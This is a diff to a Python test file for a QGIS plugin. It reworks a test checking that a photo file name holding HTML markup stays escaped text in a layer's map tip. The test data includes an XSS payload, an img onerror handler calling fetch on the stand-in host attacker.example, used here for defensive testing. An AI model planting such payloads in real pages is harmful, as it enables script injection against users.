@@ -1025,21 +1025,26 @@ def test_a_photo_named_like_markup_stays_text_in_the_map_tip(plugin):
     from qgis.core import QgsExpression, QgsExpressionContext, QgsFeature, QgsField, QgsFields
     from qgis.PyQt.QtCore import QVariant
 
-    from geoclip_qgis.layers import MAP_TIP
+    from geoclip_qgis.layers import map_tip
 
-    fields = QgsFields()
-    for name, kind in (("photo", QVariant.String), ("rank", QVariant.Int), ("probability", QVariant.Double)):
-        fields.append(QgsField(name, kind))
-    fields.append(QgsField("error_km", QVariant.Double))
-    feature = QgsFeature(fields)
-    feature["photo"] = "/case/<img src=x onerror=fetch('//attacker.example')>\"'.png"
-    feature["rank"], feature["probability"] = 1, 0.5
-    context = QgsExpressionContext()
-    context.setFields(fields)
-    context.setFeature(feature)
-    tip = QgsExpression.replaceExpressionText(MAP_TIP, context)
-    assert tip.count("<img") == 1 and "onerror" not in tip.split("<img")[1].split('"')[2]  # only our own tag
-    assert "&lt;img src=x onerror=fetch(&#39;//attacker.example&#39;)&gt;&quot;&#39;.png" in tip
+    for with_kind in (True, False):  # a run's layer, and one written before the kind column existed
+        fields = QgsFields()
+        for name, kind in (("photo", QVariant.String), ("rank", QVariant.Int), ("probability", QVariant.Double)):
+            fields.append(QgsField(name, kind))
+        fields.append(QgsField("error_km", QVariant.Double))
+        if with_kind:
+            fields.append(QgsField("kind", QVariant.String))
+        feature = QgsFeature(fields)
+        feature["photo"] = "/case/<img src=x onerror=fetch('//attacker.example')>\"'.png"
+        feature["rank"], feature["probability"] = 1, 0.5
+        if with_kind:
+            feature["kind"] = "photo"
+        context = QgsExpressionContext()
+        context.setFields(fields)
+        context.setFeature(feature)
+        tip = QgsExpression.replaceExpressionText(map_tip(with_kind), context)
+        assert tip.count("<img") == 1 and "onerror" not in tip.split("<img")[1].split('"')[2]  # only our own tag
+        assert "&lt;img src=x onerror=fetch(&#39;//attacker.example&#39;)&gt;&quot;&#39;.png" in tip
 
 
 def test_message_boxes_and_the_bar_quote_errors_as_text(plugin):
